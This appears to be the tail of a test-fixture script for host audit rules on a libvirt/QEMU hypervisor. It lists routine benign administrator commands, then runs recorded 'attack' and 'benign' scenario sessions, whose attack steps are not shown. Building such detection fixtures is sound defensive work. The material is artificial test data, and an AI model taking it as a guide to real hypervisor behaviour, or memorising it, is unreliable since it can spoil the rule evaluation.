ip route
ip -s link show lo
ip neigh
ss -tlnp
ss -s
cat /etc/resolv.conf
cat /etc/hosts
ping -c 1 -W 1 127.0.0.1
virsh -c test:///default list --all
virsh -c test:///default dominfo test
virsh -c test:///default domstate test
virsh -c test:///default net-list --all
virsh -c test:///default pool-list --all
virsh -c test:///default vol-list default-pool
virsh -c test:///default nodeinfo
virsh -c test:///default dumpxml test
virsh -c qemu:///system list --all
virsh -c qemu:///system dominfo hvfx-vm1
virsh -c qemu:///system dumpxml hvfx-vm1
virsh -c qemu:///system domblklist hvfx-vm1
virsh -c qemu:///system net-list --all
virsh -c qemu:///system pool-list --all
virsh -c qemu:///system version
virsh -c qemu:///system capabilities
qemu-img info /var/lib/libvirt/images/hvfx-vm1.qcow2
qemu-img check /var/lib/libvirt/images/hvfx-vm1.qcow2
qemu-img create -f qcow2 /tmp/hvfx-scratch.qcow2 16M
qemu-img info /tmp/hvfx-scratch.qcow2
rm -f /tmp/hvfx-scratch.qcow2
qemu-system-x86_64 --version
qemu-system-x86_64 -machine help
nft list ruleset
nft list tables
iptables -S
iptables -L -n -v
ip6tables -S
sysctl net.ipv4.ip_forward
sysctl -a 2>/dev/null | grep -c net.ipv4
cat /proc/sys/net/bridge/bridge-nf-call-iptables
ls /etc/init.d
service --status-all
pgrep -a libvirtd
pgrep -a virtlogd
pidof auditd
auditctl -s
auditctl -l | wc -l
tar -czf /tmp/hvfx-etc-backup.tgz -C / etc/libvirt etc/hostname
tar -tzf /tmp/hvfx-etc-backup.tgz | head
sha256sum /tmp/hvfx-etc-backup.tgz
rm -f /tmp/hvfx-etc-backup.tgz
mkdir -p /tmp/hvfx-repo && cd /tmp/hvfx-repo && git init -q && git status
cd /tmp/hvfx-repo && echo hello > README && git add README && git -c user.name=admin -c user.email=admin@example.org commit -qm init && git log --oneline
cd /tmp/hvfx-repo && git status --short && git diff HEAD
cd /root
rm -rf /tmp/hvfx-repo
find /etc/libvirt -name '*.xml' -newer /etc/hostname
find /var/lib/libvirt -maxdepth 2 -type d
du -sh /var/lib/libvirt/images
stat /var/lib/libvirt/images/hvfx-vm1.qcow2
ls -l /dev/kvm /dev/net/tun
cat /etc/debian_version
hostnamectl 2>/dev/null || hostname
timedatectl 2>/dev/null || date
journalctl -n 20 2>/dev/null || tail -n 20 /var/log/syslog 2>/dev/null || true
dmesg 2>/dev/null | tail -n 5 || true
id
whoami
groups
env | sort | head
echo $PATH
which virsh qemu-img nft
type virsh
history 2>/dev/null || true
vim --version 2>/dev/null | head -1 || true
nano --version 2>/dev/null | head -1 || true
wc -l /etc/passwd
getent passwd hvadmin
getent group libvirt
cat /etc/libvirt/qemu/hvfx-vm1.xml
xmllint --noout /etc/libvirt/qemu/hvfx-vm1.xml 2>/dev/null || true
md5sum /etc/libvirt/qemu/hvfx-vm1.xml
cp /etc/libvirt/qemu/hvfx-vm1.xml /root/hvfx-vm1.xml.bak
rm /root/hvfx-vm1.xml.bak
openssl version 2>/dev/null || true
curl -s -m 2 -o /dev/null http://127.0.0.1:9/ || true
ls -la /etc/nftables.conf
cat /etc/nftables.conf
mount | grep -E ' / | /var '
lsblk 2>/dev/null || true
cat /proc/mounts | wc -l
sort /etc/shells
uniq -c /etc/shells
awk -F: '$3 >= 1000 {print $1}' /etc/passwd
cut -d: -f1 /etc/group | head
ls /etc/apt/sources.list.d
apt-cache search --names-only '^qemu-system' | head -3
python3 -c 'import sys; print(sys.version)'
perl -v | head -2
ls /usr/share/qemu | head
ls -l /usr/bin/qemu-system-x86_64
sha256sum /usr/bin/qemu-img
clear 2>/dev/null || true
EOF

if wanted attack-session && ((${#WANT[@]})); then
  load_ruleset hv
  run attack-session root scn_attack_session "$SESSIONS/attack-session.log"
  printf '%s\n' "${ATTACK_STEPS[@]}" > "$SESSIONS/attack-session.steps.txt"
fi
if wanted benign-session && ((${#WANT[@]})); then
  load_ruleset hv
  run benign-session admin scn_benign_session "$SESSIONS/benign-session.log"
fi

# For looking into a recording: every scenario's output and the whole log of this run.
mkdir -p /tmp/hv-rule-fixtures-out && cp "$WORK"/*.out "$LOG" /tmp/hv-rule-fixtures-out/ 2>/dev/null || true
echo "recorded with $(dpkg-query -W -f='auditd ${Version}' auditd), kernel $(uname -r), $(qemu-system-x86_64 --version | head -1), $(virsh --version | sed 's/^/libvirt /')"
